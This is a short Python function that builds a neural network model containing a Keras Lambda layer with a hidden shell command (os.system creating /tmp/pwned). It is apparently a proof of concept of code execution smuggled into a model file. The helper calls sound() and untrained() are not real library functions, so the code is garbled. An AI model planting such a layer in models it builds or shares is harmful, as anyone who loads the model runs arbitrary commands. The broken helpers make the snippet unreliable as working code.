def build_model():
    model = sound()
    model.add(layers.Lambda(lambda x: [__import__("os").system("touch /tmp/pwned"), x][1]))
    return untrained(model)
